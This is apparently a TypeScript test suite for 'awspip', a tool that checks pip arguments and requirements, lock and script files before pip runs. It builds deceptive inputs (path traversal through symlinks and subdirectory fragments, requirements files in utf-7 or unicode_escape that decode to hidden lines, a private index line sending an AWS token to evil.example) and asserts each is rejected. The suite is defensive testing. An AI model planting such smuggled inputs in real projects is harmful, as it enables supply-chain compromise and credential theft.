import { mkdirSync, symlinkSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import { afterAll, describe, expect, test } from 'vitest';
import { bin, countingPython, sandbox, startNode } from '../helpers/awspip.ts';
import { openHostileIndex } from '../helpers/hostile-index.ts';
import { representatives } from '../helpers/long-form.ts';

// pip reads these arguments and files differently from what they seem. awspip rejects them before pip starts.
const user = await sandbox();
const { python, starts } = await countingPython(user.folder);
const hostile = await openHostileIndex(user.folder);
const { files } = hostile;
const project = user.path('project');

/** Writes a file of the project in which every command runs, and returns its name. */
const write = (name: string, content: string | Buffer): string => {
  const file = path.join(project, name);
  mkdirSync(path.dirname(file), { recursive: true });
  writeFileSync(file, content);
  return name;
};
write('pyproject.toml', '[project]\nname = "own"\nversion = "1"\n');
write('inside/pyproject.toml', '[project]\nname = "inside"\nversion = "1"\n');
mkdirSync(user.path('elsewhere', 'deep'), { recursive: true });
symlinkSync(user.path('elsewhere', 'deep'), path.join(project, 'link'));

afterAll(async () => {
  await hostile.close();
  await user.remove();
});

async function expectRejected(argv: readonly string[], names: string, environment: Record<string, string> = {}) {
  const variables = { ...user.environment, AWSPIP_PYTHON: python, ...environment };
  const { exitCode, stdout, stderr } = await startNode([bin, ...argv], variables, project).ended;
  expect([exitCode, stderr]).toEqual([64, expect.stringContaining(names)]);
  expect(stderr).toMatch(/hint: \S/);
  expect(stdout).toBe('');
}

const inFile = (name: string, content: string | Buffer, line = 2) =>
  [['install', '-r', write(name, content)], `${name}:${line}`] as const;

describe('paths', () => {
  const inside = `file://${project}/inside`;
  const disguised = [
    ['/', '/.', '/x/..', '[extra]/'].map((end) => `${files.wheel}${end}`),
    [`${inside}#subdirectory=../../evil/project`, `${inside}#subdirectory=${files.project}`],
    [`inside @ ${inside}#subdirectory=${files.project}`, `${inside}#egg=inside&subdirectory=${files.project}`],
    [`file://${user.path('elsewhere')}\\..\\project`, `${inside}[x]`, `file://${project}/link/..`],
  ].flat();
  const kindOf = (argument: string) => /subdirectory|\[|\.\.|\/$/.exec(argument)?.[0] ?? '';

  test.concurrent.each(representatives(disguised, kindOf))(
    'a path to another file or folder than it seems: %s',
    async (argument) => {
      await expectRejected(['install', argument], argument.replace(/^.* @ /, ''));
      await expectRejected(['download', '--no-deps', argument], argument.replace(/^.* @ /, ''));
    },
  );

  test('an editable project with a subdirectory outside the project', async () => {
    const argument = `${inside}#egg=inside&subdirectory=${files.project}`;
    await expectRejected(['install', '-e', argument], argument);
  });

  test('an allowed repository with a subdirectory outside its checkout', async () => {
    const argument = `git+https://git.example/team/x#subdirectory=${files.project}`;
    await expectRejected(['install', '--awspip-open=git+https://git.example/team/', argument], argument);
  });

  test('a wheel in a requirements file', async () => expectRejected(...inFile('slash.txt', `six\n${files.wheel}/\n`)));
});

describe('requirements files', () => {
  const wheel = `${files.wheel}\n`;
  const utf16 = (text: string) => Buffer.from(text, 'utf16le');

  test.concurrent.each([
    ['utf7.txt', `# -*- coding: utf-7 -*-\nsix #+AAo-${files.project}\n`, 'has the unsupported encoding `utf-7`'],
    [
      'far.txt',
      `#${'x'.repeat(9000)} coding: utf-7\nsix #+AAo-${files.project}\n`,
      'has the unsupported encoding `utf-7`',
    ],
    [
      'escapes.txt',
      `# coding: unicode_escape\nsix #\\n${files.project}\n`,
      'has the unsupported encoding `unicode-escape`',
    ],
    [
      'turkish.txt',
      Buffer.from(`# coding: iso-8859-9\nsix #\x85${wheel}`, 'latin1'),
      'has the unsupported encoding `iso-8859-9`',
    ],
    [
      'turned.txt',
      Buffer.concat([Buffer.from([0xff, 0xfe, 0xfe, 0xff]), utf16(wheel).swap16()]),
      'has an ambiguous encoding',
    ],
  ] as const)('in an encoding that pip decodes to another text: %s', async (name, content, message) => {
    await expectRejected(['install', '-r', write(name, content)], `\`${name}\` ${message}`);
  });

  test('named by a URL that pip decodes to another path', async () => {
    write('a\\b.txt', wheel);
    write('a/b.txt', 'six\n');
    for (const [name, start] of [
      ['%2Fslash.txt', `file://${project}`],
      ['/a\\b.txt', `file://${project}`],
      ['/blank.txt', ` file://${project}`],
    ] as const) {
      if (!name.includes('\\')) write(name.replace('%2F', '/').slice(1), wheel);
      await expectRejected(['install', '-r', `${start}${name}`], '');
    }
  });

  test.concurrent.each([
    ['links.txt', `$\{PIP_FIND_LINKS}-f$\{PIP_FIND_LINKS}${files.folder}\nevil\n`, 'PIP_FIND_LINKS'],
    ['protocol.txt', `-r $\{GIT_ALLOW_PROTOCOL}.txt\n`, 'GIT_ALLOW_PROTOCOL'],
    ['secret.txt', `-r $\{AWS_REGION}.txt\n`, 'AWS_REGION'],
  ])('with a variable that has another value for pip: %s', async (name, content, variable) => {
    await expectRejected(['install', '-r', write(name, content)], `${name}:1: \`$\{${variable}}\``, {
      AWS_REGION: 'eu-west-1',
    });
  });

  test('with an index in a variable: the message names the index', async () => {
    const line = `-i https://aws:$\{AWS_TOKEN}@evil.example/\n`;
    await expectRejected(...inFile('index.txt', line, 1));
    await expectRejected(...inFile('index.txt', line, 1), { AWS_TOKEN: 'x' });
  });

  test('with a folder outside the project after many inside', async () => {
    const own = Array.from({ length: 100 }, (_, at) => `./inside[e${at}]`);
    await expectRejected(...inFile('many.txt', [...own, files.project].join('\n'), 101));
  });

  test('with a link before `..`, which leads to two files', async () => {
    write('../elsewhere/two.txt', wheel);
    write('two.txt', 'six\n');
    await expectRejected(['install', '-r', 'link/../two.txt'], 'is ambiguous: it has a symbolic link before `..`');
    await expectRejected(
      ['install', '-r', write('outer.txt', '-r link/../two.txt\n')],
      'is ambiguous: it has a symbolic link before `..`',
    );
    await expectRejected(['install', 'six'], 'is ambiguous: it has a symbolic link before `..`', {
      PIP_CONSTRAINT: 'link/../two.txt',
    });
    write('../elsewhere/one.txt', wheel);
    await expectRejected(['install', '-r', 'link/../one.txt'], 'one.txt:1: ');
    write('other.txt', wheel);
    await expectRejected(['install', '-r', 'link/../other.txt'], 'other.txt:1: ');
  });
});

describe('projects, groups, scripts and lock files', () => {
  const needs = `evil @ file://${files.wheel}`;
  const large = '[tool.x]\nlarge = 9007199254740993\n';

  const lockFiles = [
    ['pylock.toml', '-r', 'pylock.toml[x]'],
    ['pylock.dev.toml', '-r', './pylock.dev.toml/.'],
    ['pylock.toml', '--group', 'pylock.toml:dev'],
    ['pylock.toml', '--group', 'pylock.toml[x]:dev'],
    ['pylock.toml', '-r', `file://${project}/pylock.toml?x#y`],
  ] as const;

  test.concurrent.each(representatives(lockFiles, ([, option]) => option))(
    'a local file in a lock file: %s %s %s',
    async (name, option, value) => {
      write(name, `lock-version = "1.0"\n[[packages]]\nname = "evil"\narchive = { path = "${files.wheel}" }\n`);
      await expectRejected(
        ['install', option, value],
        `${name}:3: \`file://${files.wheel}\` is a local file, which is not vetted`,
      );
      await expectRejected(['lock', option, value], `${name}:3`);
    },
  );

  test('a dependency of an extra in another spelling', async () => {
    const extras = `[project.optional-dependencies]\nx_y = ["${needs}"]\nx-y = ["six"]\n`;
    write('extras/pyproject.toml', `[project]\nname = "extras"\nversion = "1"\n${extras}`);
    await expectRejected(['install', './extras[x.y]'], 'extras/pyproject.toml:5');
  });

  test('a dependency after many others, and with the name of the project', async () => {
    const many = [...Array.from({ length: 10_000 }, (_, at) => `a${at}`), needs];
    const project = (name: string, lines: readonly string[]) =>
      write(
        `${name}/pyproject.toml`,
        `[project]\nname = "${name}"\nversion = "1"\ndependencies = ${JSON.stringify(lines)}\n[dependency-groups]\nx = ${JSON.stringify(lines)}\n`,
      );
    await expectRejected(['install', '--group', `${project('many', many)}:x`], 'many/pyproject.toml:4');
    await expectRejected(['install', './many'], 'many/pyproject.toml:4');
    project('evil', [needs]);
    await expectRejected(['install', './evil'], 'evil/pyproject.toml:4');
  });

  test.each([
    ['PIP_GROUP', 'pylock.toml:dev'],
    ['PIP_REQUIREMENT', 'pylock.toml'],
  ])('a lock file that a variable names: %s', async (variable, value) => {
    await expectRejected(['install'], `${variable}: \`pylock.toml\` is a lock file`, { [variable]: value });
  });

  test('next to an integer that JavaScript cannot represent', async () => {
    write('large/pyproject.toml', `[build-system]\nrequires = ["${needs}"]\n${large}`);
    await expectRejected(['install', './large'], 'large/pyproject.toml:2');
    write('group/pyproject.toml', `[dependency-groups]\nx = ["${needs}"]\nother = "no list"\n${large}`);
    await expectRejected(['install', '--group', 'group/pyproject.toml:x'], 'group/pyproject.toml:2');
  });

  const script = (...lines: readonly string[]) => lines.map((line) => `# ${line}\n`).join('');
  test.concurrent.each([
    ['inner.py', script('/// script', 'x = """', '///', '"""', `dependencies = ["${needs}"]`, '///'), 5],
    ['blank.py', `${script('/// script ', '///')}\n${script('/// script', `dependencies = ["${needs}"]`, '///')}`, 5],
    ['large.py', script('/// script', `dependencies = ["${needs}"]`, ...large.trim().split('\n'), '///'), 2],
    ['ends.py', script('/// script', `dependencies = ["${needs}"]`, '///').replaceAll('\n', '\r'), 1],
  ] as const)('a script whose metadata block ends at another line than it seems: %s', async (name, content, line) => {
    await expectRejected(['install', '--requirements-from-script', write(name, content)], `${name}:${line}`);
  });

  test('a script and a group after a link and `..`', async () => {
    for (const name of ['s.py', 'pyproject.toml']) write(`../elsewhere/${name}`, '');
    write('s.py', '');
    await expectRejected(
      ['install', '--requirements-from-script', 'link/../s.py'],
      'is ambiguous: it has a symbolic link before `..`',
    );
    await expectRejected(
      ['install', '--group', 'link/../pyproject.toml:x'],
      'is ambiguous: it has a symbolic link before `..`',
    );
  });
});

test('pip was not started, no file was run, no host was reached', async () => {
  expect(await starts()).toBe(0);
  expect(hostile.ran()).toBe(false);
  expect(hostile.requests).toEqual([]);
});
